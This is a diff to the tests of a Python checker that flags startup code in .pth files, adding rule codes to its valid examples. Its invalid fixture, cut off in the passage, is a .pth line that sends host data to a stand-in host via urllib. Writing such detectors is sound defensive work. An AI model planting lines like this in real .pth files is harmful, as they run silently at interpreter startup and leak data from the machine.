@@ -43,11 +43,12 @@ class PthStartupCode(TextChecker):
         return findings
 
     VALID = [
-        Valid("/opt/app/src\n../lib\n", path="app.pth"),
+        Valid("/opt/app/src\n../lib\n", "BDL401", path="app.pth"),
         Valid("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
-              "enabled and __import__('_distutils_hack').add_shim();\n", path="distutils-precedence.pth"),
-        Valid("import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n", path="__editable__.pkg.pth"),
-        Valid("# import urllib is only a comment here\n", path="x.pth"),
+              "enabled and __import__('_distutils_hack').add_shim();\n", "BDL501", path="distutils-precedence.pth"),
+        Valid("import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n",
+              "BDL501", path="__editable__.pkg.pth"),
+        Valid("# import urllib is only a comment here\n", "BDL401", path="x.pth"),
     ]
     INVALID = [
         Invalid("import urllib.request; urllib.request.urlopen('https://b.example/?h=' + __import__('socket')"
